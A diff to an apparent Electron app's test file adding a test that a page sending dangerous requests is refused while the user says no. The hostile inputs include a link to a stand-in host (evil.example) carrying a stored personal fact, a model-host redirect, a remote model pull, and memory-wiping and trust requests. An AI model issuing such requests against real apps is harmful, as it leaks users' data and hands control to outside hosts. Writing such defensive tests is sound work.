@@ -1,5 +1,8 @@
+import { mkdirSync } from 'node:fs';
+import { join } from 'node:path';
+import type { RequestName } from '../src-preload/contract';
 import { answerConsent } from './fixtures/consent';
-import { expect, READY, test } from './fixtures/hearth';
+import { expect, type Hearth, READY, test } from './fixtures/hearth';
 import { inPage } from './fixtures/in-page';
 import { startListeners } from './fixtures/listeners';
 import { windowOf } from './fixtures/window';
@@ -89,6 +92,61 @@ test.describe('requests', () => {
     expect(answers).toEqual(['denied', 'denied']);
   });
 });
+
+test('a page that sends every dangerous request gets nothing done while nobody says yes', async ({
+  launch,
+  dataFolder,
+}) => {
+  const { page, app } = await launch({ settings: READY });
+  const folder = join(dataFolder, 'outside', 'secret');
+  mkdirSync(folder, { recursive: true });
+  await app.evaluate(({ dialog }, path) => {
+    dialog.showOpenDialog = async () => ({ canceled: false, filePaths: [path] });
+  }, folder);
+  await page.evaluate(() => window.hearth.request('fact:add', { section: 'profile', text: 'Works as a hydrographer' }));
+  const id = await page.evaluate(async () => {
+    const linked = await window.hearth.request('project:link', {});
+    return linked.ok ? (linked.value?.id ?? '') : '';
+  });
+  const before = await page.evaluate(async () => JSON.stringify(await window.hearth.request('settings:get', {})));
+  const person = await answerConsent(app, 'no');
+  const codes: string[] = [];
+  const send = async (name: RequestName, input: unknown) => {
+    const answer = await page.evaluate(
+      // biome-ignore lint/suspicious/noExplicitAny: as a page sends it that keeps to no types
+      ([asked, given]) => window.hearth.request(asked as any, given as any),
+      [name, input] as const,
+    );
+    codes.push(answer.ok ? 'ok' : answer.error.code);
+    // Five noes within a minute would keep the rest from being asked at all.
+    if (codes.length % 4 === 0) await letMinutesPass(app);
+  };
+  await send('settings:set', { key: 'ollama.host', value: 'http://192.0.2.1' });
+  await send('settings:set', { key: 'app.launch_at_login', value: true });
+  await send('app:open-link', { url: 'https://evil.example/?fact=hydrographer' });
+  await send('project:trust', { id, isTrusted: true });
+  await send('forget:apply', { text: 'the', placeIds: [] });
+  await send('memory:clear-everything', { name: 'Personal' });
+  await send('model:delete', { name: 'stand-in:latest' });
+  await send('model:pull', { name: 'evil.example/x/y' });
+  expect(codes).toEqual([...Array(7).fill('declined'), 'model_name']);
+  expect(await person.asked()).toHaveLength(7);
+  const after = await page.evaluate(async () => JSON.stringify(await window.hearth.request('settings:get', {})));
+  expect(after).toBe(before);
+  const left = await page.evaluate(async () =>
+    JSON.stringify([await window.hearth.request('memory:list', {}), await window.hearth.request('project:list', {})]),
+  );
+  expect(left).toContain('hydrographer');
+  expect(left).toContain('"state":"untrusted"');
+});
+
+/** Main's clock goes on by two minutes. */
+async function letMinutesPass(app: Hearth['app']): Promise<void> {
+  await app.evaluate(() => {
+    const now = Date.now;
+    Date.now = () => now() + 120_000;
+  });
+}
 
 test.describe('what a model writes', () => {
   test('loads nothing from anywhere', async ({ launch, ollama }) => {
